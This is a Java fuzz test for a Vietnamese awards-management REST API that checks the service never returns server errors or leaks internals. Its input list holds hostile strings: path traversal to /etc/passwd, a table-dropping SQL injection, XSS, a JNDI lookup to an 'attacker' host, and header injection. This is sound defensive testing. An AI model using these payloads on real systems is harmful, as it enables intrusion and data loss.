package vn.thidua.security;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Disabled;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.thidua.support.Api;
import vn.thidua.support.Fixtures;

/**
 * Bad input never breaks the service. For every operation of the served contract, random and
 * malformed requests (wrong types, malformed JSON, unknown fields, huge and negative numbers,
 * Vietnamese and other Unicode text, very long strings, odd path parameters, missing or garbage
 * If-Match and Idempotency-Key, random values for the declared query parameters) are sent with a
 * token of a role that may call the operation. Every answer must be below 500, a status the
 * contract documents for that operation, and for a 4xx a problem+json body that shows nothing of
 * the service's insides.
 *
 * <p>The inputs come from a seeded {@link Random}, so a failure reproduces: the message names the
 * seed, and {@code -Dfuzz.seed=...} reruns it ({@code -Dfuzz.tries=...} sends more per operation).
 * Requests start from a valid body on data of this test's own (a fresh bloc, year, unit code 98 in
 * 2088-2089, catalog codes prefixed FZ), so that the mutations that happen to be valid change only
 * that data.
 *
 * <p>A seeded Random rather than jqwik: jqwik 1.10 asks not to be used with AI coding agents (its
 * "Anti-AI Usage Clause"), and it is built on JUnit Platform 1 while Quarkus 3.33 brings JUnit 6; jqwik
 * properties would also run outside the Quarkus test extension, without the application.
 */
@QuarkusTest
class FuzzTest {

    private static final long SEED = Long.getLong("fuzz.seed", 20240101L);
    private static final int TRIES = Integer.getInteger("fuzz.tries", 100);

    /** Operations only admins may call; every other one is sent as central staff. */
    private static final Set<String> ADMIN_ONLY = Set.of("addIndicator", "replaceIndicator", "createAwardType", "updateAwardType");

    /** What an answer must not show: class and package names, SQL, stack frames. */
    private static final List<String> LEAKS = List.of("Exception", "java.", "org.", "vn.thidua", "SELECT", "INSERT", "constraint");
    private static final Pattern STACK_FRAME = Pattern.compile("(?s).*\\bat [\\w$]+(\\.[\\w$<>]+)+\\(.*");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final int BODY_LIMIT = 256 * 1024;

    /** Sends the body as the bytes generated, whatever the content type says. */
    private static final RestAssuredConfig RAW = RestAssuredConfig.config().encoderConfig(
            EncoderConfig.encoderConfig().appendDefaultContentCharsetToContentTypeIfUndefined(false)
                    .defaultContentCharset(StandardCharsets.UTF_8));

    record Parameter(String in, String name, boolean required, String type, List<String> values) {
    }

    record Operation(String id, String method, String path, List<Parameter> parameters, String bodyType,
                     Set<Integer> documented) {

        boolean has(String in, String name) {
            return parameters.stream().anyMatch(p -> p.in().equals(in) && p.name().equalsIgnoreCase(name));
        }
    }

    /** A request as sent, for the failure message. */
    record Attempt(String method, String path, Map<String, String> query, Map<String, String> headers, String body) {
        @Override
        public String toString() {
            return method + " " + path + (query.isEmpty() ? "" : " query=" + query) + " headers=" + headers
                    + (body == null ? "" : " body=" + abbreviate(body, 300));
        }
    }

    /**
     * Who sends the fuzz: central staff (admins for the catalogs), who may do most, and a province officer
     * (Nghệ An, 40, a member of the targets' cluster), who meets the visibility and authority rules on every
     * path; each with its own seed, so that both see the same variety of input.
     */
    @ParameterizedTest(name = "as {0}")
    @ValueSource(strings = {"staff", "province"})
    void noOperationAnswersRandomOrMalformedInputWithAnErrorOfTheService(String caller) throws Exception {
        List<Operation> operations = operations();
        Targets targets = new Targets();
        Random random = new Random(SEED + caller.hashCode());
        List<String> failures = new ArrayList<>();
        Map<String, Integer> sent = new TreeMap<>();
        long start = System.nanoTime();
        java.nio.file.Files.deleteIfExists(java.nio.file.Path.of("target", "fuzz-failures.txt"));

        for (Operation operation : operations) {
            for (int i = 0; i < TRIES; i++) {
                Attempt attempt = attempt(operation, targets, random);
                Response response;
                try {
                    response = send(operation, attempt, caller);
                } catch (Exception e) {
                    // The service may answer 413 and close the connection before a too large body is written.
                    if (attempt.body() != null && attempt.body().getBytes(StandardCharsets.UTF_8).length > BODY_LIMIT && e instanceof java.net.SocketException) {
                        sent.merge(operation.id(), 1, Integer::sum);
                        continue;
                    }
                    failures.add(operation.id() + ": the connection failed (" + e + ")\n    request:  " + attempt);
                    sent.merge(operation.id(), 1, Integer::sum);
                    continue;
                }
                sent.merge(operation.id(), 1, Integer::sum);
                String problem = judge(operation, response);
                if (problem != null) {
                    failures.add(operation.id() + ": " + problem + "\n    request:  " + attempt
                            + "\n    response: " + response.statusCode() + " " + response.contentType() + " "
                            + abbreviate(response.asString(), 400));
                }
            }
        }
        Duration took = Duration.ofNanos(System.nanoTime() - start);
        System.out.printf("Fuzz as %s: %d operations x %d tries in %d s (seed %d)%n", caller, operations.size(), TRIES,
                took.toSeconds(), SEED);

        if (!failures.isEmpty()) {
            java.nio.file.Files.writeString(java.nio.file.Path.of("target", "fuzz-failures.txt"), String.join("\n", failures));
        }
        assertTrue(failures.isEmpty(), failures.size() + " answers broke the rules (seed " + SEED + "; all in target/fuzz-failures.txt):\n"
                + String.join("\n", failures.subList(0, Math.min(20, failures.size()))));
        for (Operation operation : operations) {
            assertEquals(TRIES, sent.getOrDefault(operation.id(), 0), operation.id() + " was not exercised");
        }
        assertTrue(operations.size() >= 50, "the contract's operations were not found: " + sent.keySet());
    }

    /** Null when the answer keeps the rules, else what is wrong with it. */
    private static String judge(Operation operation, Response response) {
        int status = response.statusCode();
        if (status >= 500) {
            return "a server error";
        }
        if (!operation.documented().contains(status)) {
            return "status " + status + " is not documented for this operation " + operation.documented();
        }
        if (status >= 400) {
            String type = response.contentType();
            if (type == null || !type.startsWith("application/problem+json")) {
                return "a " + status + " that is not application/problem+json";
            }
            String body = response.asString();
            for (String leak : LEAKS) {
                if (body.contains(leak)) {
                    return "the problem shows \"" + leak + "\"";
                }
            }
            if (STACK_FRAME.matcher(body).matches()) {
                return "the problem shows a stack frame";
            }
        }
        return null;
    }

    private static Response send(Operation operation, Attempt attempt, String caller) {
        String role = caller.equals("province") ? "province" : ADMIN_ONLY.contains(operation.id()) ? "admin" : "central";
        RequestSpecification request = given().config(RAW).urlEncodingEnabled(false)
                .header("Authorization", "Bearer " + Api.token(role, "40"));
        attempt.headers().forEach(request::header);
        attempt.query().forEach(request::queryParam);
        if (attempt.body() != null) {
            request.body(attempt.body().getBytes(StandardCharsets.UTF_8));
        }
        return request.request(attempt.method(), attempt.path());
    }

    // ------------------------------------------------------------------------------------------
    // What the fuzzing found, pinned by the smallest request.
    // ------------------------------------------------------------------------------------------

    @Test
    void aNulCharacterIsABadRequest() {
        Map<String, Object> cluster = Map.of("code", Api.freshClusterCode("NUL"), "name", "Cụm\u0000thử", "kind", "BLOC");
        Map<String, Response> answers = new LinkedHashMap<>();
        answers.put("GET /api/v1/indicators/%00", central().get("/api/v1/indicators/%00"));
        answers.put("GET /api/v1/award-types/%00", central().get("/api/v1/award-types/%00"));
        answers.put("GET /api/v1/clusters/%00", central().get("/api/v1/clusters/%00"));
        answers.put("GET /api/v1/movements/%00", central().get("/api/v1/movements/%00"));
        answers.put("GET /api/v1/provinces/%00", central().get("/api/v1/provinces/%00"));
        answers.put("GET /api/v1/reports?cluster=%00", central().get("/api/v1/reports?cluster=%00"));
        answers.put("POST /api/v1/clusters with U+0000 in the name", central().contentType("application/json").body(cluster)
                .post("/api/v1/clusters"));
        Map<String, String> broken = new TreeMap<>();
        answers.forEach((request, answer) -> {
            if (answer.statusCode() >= 500 || !String.valueOf(answer.contentType()).startsWith("application/problem+json")) {
                broken.put(request, answer.statusCode() + " " + answer.asString());
            }
        });
        assertTrue(broken.isEmpty(), "answers to U+0000: " + broken);
    }

    @Test
    void aPageFarBeyondTheLastIsNoServerError() {
        central().get("/api/v1/reports?page=2147483647").then()
                .spec(vn.thidua.support.Problems.problem(400, "bad-request"))
                .body("errors[0].field", org.hamcrest.Matchers.equalTo("page"));
    }

    @Test
    @Disabled("known limitation: a request line over 4 KiB is refused by the HTTP server (Vert.x) with 414 and an "
            + "empty body, before the service sees it: neither in the contract nor application/problem+json")
    void aTooLongAddressIsAProblem() {
        central().get("/api/v1/clusters?q=" + "x".repeat(5000)).then()
                .statusCode(org.hamcrest.Matchers.is(400)).contentType("application/problem+json");
    }

    private static RequestSpecification central() {
        return given().urlEncodingEnabled(false).header("Authorization", "Bearer " + Api.token("central", "38"));
    }

    // ------------------------------------------------------------------------------------------
    // The operations, from the served contract.
    // ------------------------------------------------------------------------------------------

    private static List<Operation> operations() throws Exception {
        JsonNode contract = JSON.readTree(given().queryParam("format", "json").get("/q/openapi")
                .then().statusCode(200).extract().asString());
        List<Operation> operations = new ArrayList<>();
        Iterator<Map.Entry<String, JsonNode>> paths = contract.path("paths").fields();
        while (paths.hasNext()) {
            Map.Entry<String, JsonNode> path = paths.next();
            if (!path.getKey().startsWith("/api/")) {
                continue;
            }
            Iterator<Map.Entry<String, JsonNode>> methods = path.getValue().fields();
            while (methods.hasNext()) {
                Map.Entry<String, JsonNode> entry = methods.next();
                if (!Set.of("get", "post", "put", "patch", "delete").contains(entry.getKey())) {
                    continue;
                }
                JsonNode op = entry.getValue();
                List<Parameter> parameters = new ArrayList<>();
                for (JsonNode p : op.path("parameters")) {
                    JsonNode schema = resolve(contract, p.path("schema"));
                    List<String> values = new ArrayList<>();
                    schema.path("enum").forEach(v -> values.add(v.asText()));
                    parameters.add(new Parameter(p.path("in").asText(), p.path("name").asText(), p.path("required").asBoolean(),
                            schema.path("type").asText("string"), values));
                }
                String bodyType = op.path("requestBody").path("content").fieldNames().hasNext()
                        ? op.path("requestBody").path("content").fieldNames().next() : null;
                Set<Integer> documented = new TreeSet<>();
                op.path("responses").fieldNames().forEachRemaining(s -> documented.add(Integer.parseInt(s)));
                operations.add(new Operation(op.path("operationId").asText(), entry.getKey().toUpperCase(), path.getKey(),
                        parameters, bodyType, documented));
            }
        }
        return operations;
    }

    private static JsonNode resolve(JsonNode contract, JsonNode schema) {
        String ref = schema.path("$ref").asText("");
        if (ref.startsWith("#/components/schemas/")) {
            return contract.path("components").path("schemas").path(ref.substring("#/components/schemas/".length()));
        }
        return schema;
    }

    // ------------------------------------------------------------------------------------------
    // The random requests.
    // ------------------------------------------------------------------------------------------

    private static Attempt attempt(Operation operation, Targets targets, Random random) {
        boolean onTarget = random.nextInt(10) < 6;
        String path = operation.path();
        for (Parameter p : operation.parameters()) {
            if (p.in().equals("path")) {
                String value = onTarget ? targets.pathValue(operation.id(), p.name()) : Inputs.pathValue(random);
                path = path.replace("{" + p.name() + "}", value);
            }
        }

        Map<String, String> query = new LinkedHashMap<>();
        if (onTarget) {
            query.putAll(targets.query(operation.id()));
        }
        for (Parameter p : operation.parameters()) {
            if (p.in().equals("query") && random.nextInt(10) < (p.required() ? 8 : 4)) {
                query.put(p.name(), Inputs.inAddress(Inputs.queryValue(random, p)));
            }
        }
        if (random.nextInt(10) == 0) {
            query.put("unknownParameter", Inputs.inAddress(Inputs.text(random)));
        }

        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Accept", List.of("application/json", "application/json", "application/json", "*/*", "text/csv",
                "application/xml").get(random.nextInt(6)));
        if (operation.has("header", "If-Match")) {
            int choice = random.nextInt(10);
            if (choice < 4) {
                headers.put("If-Match", onTarget ? targets.currentEtag(path, query) : "\"0\"");
            } else if (choice < 6) {
                headers.put("If-Match", Inputs.headerGarbage(random));
            } else if (choice < 8) {
                headers.put("If-Match", List.of("\"0\"", "\"999999\"", "\"-1\"", "W/\"1\"", "*").get(random.nextInt(5)));
            }
        }
        if (operation.has("header", "Idempotency-Key") && random.nextBoolean()) {
            headers.put("Idempotency-Key", random.nextBoolean()
                    ? "fz-" + Long.toHexString(random.nextLong()) : Inputs.headerGarbage(random));
        }

        String body = null;
        if (operation.bodyType() != null) {
            headers.put("Content-Type", operation.bodyType());
            body = Inputs.body(random, targets.body(operation.id()), headers);
        }
        return new Attempt(operation.method(), path, query, headers, body);
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static String abbreviate(String text, int max) {
        return text == null || text.length() <= max ? text : text.substring(0, max) + "...(" + text.length() + " chars)";
    }

    /**
     * Random and malformed values. None contains what the service must not show, so an echo of them
     * is no leak. None contains U+0000 either: see aNulCharacterIsABadRequest.
     */
    static final class Inputs {

        private static final String[] STRINGS = {
            "", " ", "\t\n", "Cụm thi đua các tỉnh Đồng bằng sông Hồng", "Thừa Thiên Huế", "Bà Rịa – Vũng Tàu",
            "Ủy ban nhân dân tỉnh Nam Định", "%00", "../../../etc/passwd", "..\\..\\windows\\win.ini",
            "' OR '1'='1", "'; DROP TABLE report; --", "<script>alert(1)</script>", "${jndi:ldap://attacker/a}",
            "{{7*7}}", "\u0001\u001f", "\uD83D\uDE00\uD83C\uDDFB\uD83C\uDDF3", "\u202Eabc", "a\u200Bb", "e\u0301\u0302\u0323",
            "\uD800", "\uFFFF", "9999999999999999999999", "-1", "1e309", "NaN", "null", "true", "2023-H1", "2023-Q3",
            "2023-02-30", "9999-12-31", "0000-00-00", "漢字", "Ωμέγα", "مرحبا", "\\u0000", "a\u0000b", "\r\nX-Injected: 1",
        };
        private static final String[] SYLLABLES = {"thi", "đua", "khen", "thưởng", "cụm", "trưởng", "tỉnh", "Hà", "Nội",
            "Đà", "Nẵng", "Huế", "nghĩa", "quyết", "định", "Bằng", "Cờ", "Chính", "phủ", "nông", "thôn", "mới", "xã"};
        private static final Object[] NUMBERS = {0, -1, 1, -2147483648, 2147483647, Long.MAX_VALUE, Long.MIN_VALUE,
            1944, 2101, 1.5, -0.0001, 1e308, -1e308, new BigInteger("123456789012345678901234567890"), 3.14159265358979323846};

        static String text(Random random) {
            while (true) {
                String value = switch (random.nextInt(6)) {
                    case 0, 1 -> STRINGS[random.nextInt(STRINGS.length)];
                    case 2 -> vietnamese(random, 1 + random.nextInt(8));
                    case 3 -> unicode(random, 1 + random.nextInt(40));
                    case 4 -> vietnamese(random, 1).repeat(50 + random.nextInt(3000));
                    default -> Long.toString(random.nextLong());
                };
                if (LEAKS.stream().noneMatch(value::contains)) {
                    return value;
                }
            }
        }

        private static String vietnamese(Random random, int words) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < words; i++) {
                text.append(i == 0 ? "" : " ").append(SYLLABLES[random.nextInt(SYLLABLES.length)]);
            }
            return text.toString();
        }

        private static String unicode(Random random, int length) {
            StringBuilder text = new StringBuilder();
            for (int i = 0; i < length; i++) {
                int[] range = new int[][] {{0x20, 0x7e}, {0xa0, 0x24f}, {0x1ea0, 0x1ef9}, {0x300, 0x36f}, {0x4e00, 0x4fff},
                    {0x1f300, 0x1f64f}, {0x0, 0x1f}, {0x202a, 0x202e}}[random.nextInt(8)];
                text.appendCodePoint(range[0] + random.nextInt(range[1] - range[0] + 1));
            }
            return text.toString();
        }

        /** Any JSON value, often of a type the field does not take. */
        static Object value(Random random, int depth) {
            return switch (random.nextInt(depth > 2 ? 6 : 8)) {
                case 0, 1 -> text(random);
                case 2 -> NUMBERS[random.nextInt(NUMBERS.length)];
                case 3 -> random.nextInt();
                case 4 -> random.nextBoolean();
                case 5 -> null;
                case 6 -> {
                    List<Object> list = new ArrayList<>();
                    for (int i = random.nextInt(4); i > 0; i--) {
                        list.add(value(random, depth + 1));
                    }
                    yield list;
                }
                default -> {
                    Map<String, Object> map = new LinkedHashMap<>();
                    for (int i = random.nextInt(4); i > 0; i--) {
                        map.put(text(random), value(random, depth + 1));
                    }
                    yield map;
                }
            };
        }

        /** A body: the valid one changed, another JSON type, broken JSON, nothing, too deep or too large. */
        static String body(Random random, Map<String, Object> valid, Map<String, String> headers) {
            try {
                int choice = random.nextInt(100);
                if (choice < 10) {
                    return JSON.writeValueAsString(valid);
                }
                if (choice < 45) {
                    Map<String, Object> changed = new LinkedHashMap<>(valid);
                    List<String> fields = new ArrayList<>(changed.keySet());
                    for (int i = 1 + random.nextInt(3); i > 0 && !fields.isEmpty(); i--) {
                        String field = fields.get(random.nextInt(fields.size()));
                        if (random.nextInt(4) == 0) {
                            changed.remove(field);
                        } else {
                            changed.put(field, value(random, 0));
                        }
                    }
                    return JSON.writeValueAsString(changed);
                }
                if (choice < 55) {
                    Map<String, Object> extended = new LinkedHashMap<>(valid);
                    extended.put(random.nextBoolean() ? "id" : text(random), value(random, 0));
                    return JSON.writeValueAsString(extended);
                }
                if (choice < 63) {
                    return JSON.writeValueAsString(value(random, 0));
                }
                if (choice < 78) {
                    String json = JSON.writeValueAsString(valid);
                    return switch (random.nextInt(7)) {
                        case 0 -> json.substring(0, random.nextInt(Math.max(1, json.length())));
                        case 1 -> json.replaceFirst(":", "");
                        case 2 -> json + "}";
                        case 3 -> "{\"a\":}";
                        case 4 -> json.replace("\"", "'");
                        case 5 -> "\u0000\u0001\u00ff";
                        default -> text(random);
                    };
                }
                if (choice < 84) {
                    return "";
                }
                if (choice < 89) {
                    int depth = 2000 + random.nextInt(20000);
                    return "[".repeat(depth) + "]".repeat(depth);
                }
                if (choice < 95) {
                    headers.put("Content-Type", List.of("text/plain", "application/xml", "application/octet-stream",
                            "application/json; charset=ISO-8859-1").get(random.nextInt(4)));
                    return JSON.writeValueAsString(valid);
                }
                if (choice < 97) {
                    Map<String, Object> huge = new LinkedHashMap<>(valid);
                    huge.put(valid.isEmpty() ? "note" : valid.keySet().iterator().next(), "ệ".repeat(100_000));
                    return JSON.writeValueAsString(huge);
                }
                Map<String, Object> stranger = new LinkedHashMap<>();
                stranger.put(text(random), value(random, 0));
                return JSON.writeValueAsString(stranger);
            } catch (Exception e) {
                throw new IllegalStateException(e);
            }
        }

        /**
         * A path parameter: odd escapes, numbers out of range, or any text. Never empty nor only dots:
         * those segments make the address of another operation.
         */
        static String pathValue(Random random) {
            String[] odd = {"%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%2F..%2F", "%2e%2e%2e", "%20", "%C3%A9%E1%BB%87",
                "-1", "0", "99999999999999999999999", "1e3", "null", "%F0%9F%98%80", "%FF%FE", "A".repeat(1000), "%3Bx"};
            String value = random.nextBoolean() ? odd[random.nextInt(odd.length)] : inAddress(text(random));
            return value.isEmpty() ? "%20" : value;
        }

        /**
         * Text for a path or query parameter, encoded and cut to 200 characters: the HTTP server
         * refuses a request line over 4 KiB before the service sees it (see aTooLongAddressIsAProblem).
         */
        static String inAddress(String text) {
            return encode(text.codePointCount(0, text.length()) > 200 ? text.substring(0, text.offsetByCodePoints(0, 200)) : text);
        }

        static String queryValue(Random random, Parameter parameter) {
            if (parameter.name().equals("page") && random.nextInt(4) == 0) {
                return String.valueOf(random.nextInt(1_000_000));
            }
            if (!parameter.values().isEmpty() && random.nextBoolean()) {
                return parameter.values().get(random.nextInt(parameter.values().size()));
            }
            return switch (random.nextInt(4)) {
                case 0 -> parameter.name().equals("page") ? (random.nextBoolean() ? "-1" : "2147483647")
                        : String.valueOf(NUMBERS[random.nextInt(NUMBERS.length)]);
                case 1 -> String.valueOf(random.nextInt(200) - 50);
                default -> text(random);
            };
        }

        /** Printable ASCII only: what an HTTP client lets through in a header. */
        static String headerGarbage(Random random) {
            return switch (random.nextInt(5)) {
                case 0 -> "";
                case 1 -> "x".repeat(201 + random.nextInt(1500));
                case 2 -> "\"" + Long.MAX_VALUE + "0\"";
                case 3 -> "has spaces and \"quotes\"";
                default -> {
                    StringBuilder text = new StringBuilder();
                    for (int i = random.nextInt(60); i >= 0; i--) {
                        text.append((char) (0x21 + random.nextInt(0x5e)));
                    }
                    yield text.toString();
                }
            };
        }
    }

    // ------------------------------------------------------------------------------------------
    // The data the requests aim at, of this test's own.
    // ------------------------------------------------------------------------------------------

    /**
     * A fresh bloc and year with Thanh Hóa (38) as head and Nghệ An (40), Hà Tĩnh (42) as members;
     * reports and recommendations in each state an action needs; a cluster to change, one to delete
     * and one whose members change; catalog entries; and unit 98 in 2088.
     */
    static final class Targets {

        private static final java.util.concurrent.atomic.AtomicInteger RUNS = new java.util.concurrent.atomic.AtomicInteger();

        final int year = Api.freshBlocYear();
        final String cluster = Fixtures.cluster("BLOC");
        final String clusterToEdit = Fixtures.cluster("BLOC");
        final String clusterToDelete = Fixtures.cluster("BLOC");
        final String clusterOfMembers = Fixtures.cluster("BLOC");
        final long membershipToChange;
        final long membershipToRemove;
        final Map<String, Long> reports = new LinkedHashMap<>();
        final Map<String, Long> recommendations = new LinkedHashMap<>();
        final String indicator = "FZ_" + Long.toString(System.nanoTime() % 1_000_000_000L, 36).toUpperCase();
        final String awardType = indicator;
        final String movement = indicator.replace('_', '-');
        /** Unit 98's day: one per run (each caller's run makes its own targets). */
        final String unitDay = "2088-01-0" + (1 + 2 * RUNS.getAndIncrement());

        Targets() {
            Fixtures.member(cluster, year, "38", "HEAD");
            Fixtures.member(cluster, year, "40", "MEMBER");
            Fixtures.member(cluster, year, "42", "MEMBER");
            Fixtures.member(clusterOfMembers, year, "38", "HEAD");
            membershipToChange = Fixtures.member(clusterOfMembers, year, "40", "MEMBER");
            membershipToRemove = Fixtures.member(clusterOfMembers, year, "42", "MEMBER");

            String h1 = year + "-H1";
            reports.put("updateReport", Fixtures.report(cluster, "40", h1, Fixtures.values("BUDGET_REVENUE", "8200")));
            reports.put("submitReport", Fixtures.report(cluster, "38", h1, Fixtures.values("BUDGET_REVENUE", "9100")));
            reports.put("acceptReport", Fixtures.report(cluster, "42", h1, Fixtures.values("BUDGET_REVENUE", "5600")));
            reports.put("returnReport", Fixtures.report(cluster, "42", year + "-FY", Fixtures.values("NTM_COMMUNES", "83")));
            Fixtures.act(reports.get("acceptReport"), "submit");
            Fixtures.act(reports.get("returnReport"), "submit");

            for (String op : List.of("updateAwardRecommendation", "submitAwardRecommendation", "withdrawAwardRecommendation",
                    "returnAwardRecommendation", "voteOnAwardRecommendation", "forwardAwardRecommendation",
                    "decideAwardRecommendation")) {
                Map<String, Object> body = new LinkedHashMap<>(recommendation());
                body.put("nomineeName", "Tập thể " + op + " " + cluster);
                long id = Api.asProvince("40").body(body).post("/api/v1/award-recommendations")
                        .then().statusCode(201).extract().jsonPath().getLong("id");
                recommendations.put(op, id);
            }
            for (String op : List.of("returnAwardRecommendation", "voteOnAwardRecommendation", "forwardAwardRecommendation",
                    "decideAwardRecommendation")) {
                act(recommendations.get(op), "submit", Map.of());
            }
            for (String op : List.of("forwardAwardRecommendation", "decideAwardRecommendation")) {
                act(recommendations.get(op), "vote", Map.of("membersPresent", 3, "votesFor", 3, "votesAgainst", 0, "votesAbstaining", 0));
                Fixtures.attachDossier(recommendations.get(op));
            }
            act(recommendations.get("decideAwardRecommendation"), "forward", Map.of());

            Api.as("admin").body(indicatorBody()).post("/api/v1/indicators").then().statusCode(201);
            Api.as("admin").body(awardTypeBody()).post("/api/v1/award-types").then().statusCode(201);
            Api.as("admin").body(Map.of("code", movement, "name", "Phong trào thi đua thử nghiệm"))
                    .post("/api/v1/movements").then().statusCode(201);
            Api.as("admin").body(unitBody(unitDay)).post("/api/v1/provinces").then().statusCode(201);
        }

        private static void act(long id, String action, Object body) {
            String etag = Api.etagOf(Api.as("central").get("/api/v1/award-recommendations/{id}", id)
                    .then().statusCode(200).extract().response());
            Api.as("central").header("If-Match", etag).body(body)
                    .post("/api/v1/award-recommendations/{id}/{action}", id, action).then().statusCode(200);
        }

        String pathValue(String operationId, String name) {
            if (name.equals("period")) {
                return year + "-H1";
            }
            if (operationId.contains("Report")) {
                return String.valueOf(reports.getOrDefault(operationId, reports.get("updateReport")));
            }
            if (operationId.contains("AwardRecommendation")) {
                return String.valueOf(recommendations.getOrDefault(operationId, recommendations.get("updateAwardRecommendation")));
            }
            return switch (operationId) {
                case "updateCluster" -> clusterToEdit;
                case "deleteCluster" -> clusterToDelete;
                case "addMembership", "listMemberships" -> clusterOfMembers;
                case "changeMembershipRole", "getMembership" -> name.equals("id") ? String.valueOf(membershipToChange) : clusterOfMembers;
                case "removeMembership" -> name.equals("id") ? String.valueOf(membershipToRemove) : clusterOfMembers;
                case "getIndicator", "replaceIndicator" -> indicator;
                case "getAwardType", "updateAwardType" -> awardType;
                case "getMovement", "updateMovement" -> movement;
                case "correctProvince" -> "98";
                case "getProvince", "listProvinceAwards", "listProvinceMemberships" -> "38";
                default -> name.equals("id") ? "1" : cluster;
            };
        }

        Map<String, String> query(String operationId) {
            return switch (operationId) {
                case "correctProvince" -> Map.of("asOf", unitDay);
                case "getClusterRanking" -> Map.of("indicator", "BUDGET_REVENUE");
                case "getNationalIndicatorStatistics" -> Map.of("period", year + "-H1");
                default -> Map.of();
            };
        }

        /** The ETag of the resource at this address (an action's resource for an action), or a stale one. */
        String currentEtag(String path, Map<String, String> query) {
            String resource = path.replaceFirst("/(submit|accept|return|vote|forward|decide|withdraw)$", "");
            RequestSpecification read = given().urlEncodingEnabled(false)
                    .header("Authorization", "Bearer " + Api.token("central", "38"));
            if (query.containsKey("asOf")) {
                read.queryParam("asOf", query.get("asOf"));
            }
            Response response = read.get(resource);
            return response.statusCode() == 200 && response.header("ETag") != null ? response.header("ETag") : "\"0\"";
        }

        /** A valid body for the operation on this test's data; an empty object for one without a body known here. */
        Map<String, Object> body(String operationId) {
            return switch (operationId) {
                case "createProvince" -> unitBody("2089-01-01");
                case "correctProvince" -> unitBody(unitDay);
                case "createCluster" -> Map.of("code", Api.freshClusterCode("FZ"), "name", "Cụm thi đua thử nghiệm", "kind", "BLOC");
                case "updateCluster" -> Map.of("name", "Cụm thi đua đã đổi tên", "kind", "BLOC", "description", "Mô tả.");
                case "addMembership" -> Map.of("year", year, "provinceCode", "20", "role", "MEMBER");
                case "changeMembershipRole" -> Map.of("role", "DEPUTY");
                case "addIndicator" -> {
                    Map<String, Object> body = indicatorBody();
                    body.put("code", indicator + "N");
                    yield body;
                }
                case "replaceIndicator" -> indicatorBody();
                case "createAwardType" -> {
                    Map<String, Object> body = awardTypeBody();
                    body.put("code", awardType + "N");
                    yield body;
                }
                case "updateAwardType" -> {
                    Map<String, Object> body = awardTypeBody();
                    body.remove("code");
                    yield body;
                }
                case "createMovement" -> Map.of("code", movement + "-N", "name", "Phong trào mới", "startYear", 2024);
                case "updateMovement" -> Map.of("name", "Phong trào đã sửa", "startYear", 2021, "endYear", 2025);
                case "createReport" -> Map.of("clusterCode", cluster, "provinceCode", "40", "period", year + "-FY",
                        "values", Fixtures.values("BUDGET_REVENUE", "8200", "POVERTY_RATE", "1.52"));
                case "updateReport" -> Map.of("values", Fixtures.values("BUDGET_REVENUE", "8300"), "movementResults", "Kết quả.");
                case "submitReport", "acceptReport" -> Map.of("note", "Ghi chú.");
                case "returnReport" -> Map.of("note", "Đề nghị bổ sung số liệu.");
                case "createAwardRecommendation" -> recommendation();
                case "updateAwardRecommendation" -> {
                    Map<String, Object> body = recommendation();
                    body.keySet().removeAll(List.of("clusterCode", "year", "proposingProvinceCode"));
                    body.put("nomineeName", "Tập thể updateAwardRecommendation " + cluster);
                    yield body;
                }
                case "returnAwardRecommendation" -> Map.of("reason", "Bổ sung hồ sơ.");
                case "voteOnAwardRecommendation" -> Map.of("membersPresent", 3, "votesFor", 2, "votesAgainst", 1, "votesAbstaining", 0);
                case "decideAwardRecommendation" -> Map.of("outcome", "APPROVED", "decisionNumber", "88/QĐ-TTg",
                        "decisionDate", "2024-10-14", "decidingAuthority", "Thủ tướng Chính phủ");
                case "submitAwardRecommendation", "forwardAwardRecommendation", "withdrawAwardRecommendation" ->
                        Map.of("note", "Ghi chú.");
                default -> Map.of();
            };
        }

        private Map<String, Object> recommendation() {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("clusterCode", cluster);
            body.put("year", year);
            body.put("awardTypeCode", "PM_CERTIFICATE_OF_MERIT");
            body.put("kind", "MERIT");
            body.put("nomineeKind", "COLLECTIVE");
            body.put("nomineeName", "Hợp tác xã Thử Nghiệm " + cluster);
            body.put("nomineeProvinceCode", "40");
            body.put("proposingProvinceCode", "40");
            body.put("achievements", "Hoàn thành xuất sắc nhiệm vụ.");
            return body;
        }

        private Map<String, Object> indicatorBody() {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("code", indicator);
            body.put("nameVi", "Chỉ tiêu thử nghiệm");
            body.put("unit", "tỷ đồng");
            body.put("valueType", "DECIMAL");
            body.put("aggregation", "SUM");
            body.put("higherIsBetter", true);
            return body;
        }

        private Map<String, Object> awardTypeBody() {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("code", awardType);
            body.put("name", "Bằng khen thử nghiệm");
            body.put("category", "CERTIFICATE_OF_MERIT");
            body.put("recipients", List.of("COLLECTIVE"));
            body.put("decidedBy", "PRIME_MINISTER");
            return body;
        }

        /** Unit 98 (no unit has that code) for one day: this test's own. */
        private static Map<String, Object> unitBody(String day) {
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("code", "98");
            body.put("name", "Thử Nghiệm");
            body.put("fullName", "Tỉnh Thử Nghiệm");
            body.put("type", "PROVINCE");
            body.put("validFrom", day);
            body.put("validTo", day);
            return body;
        }
    }
}
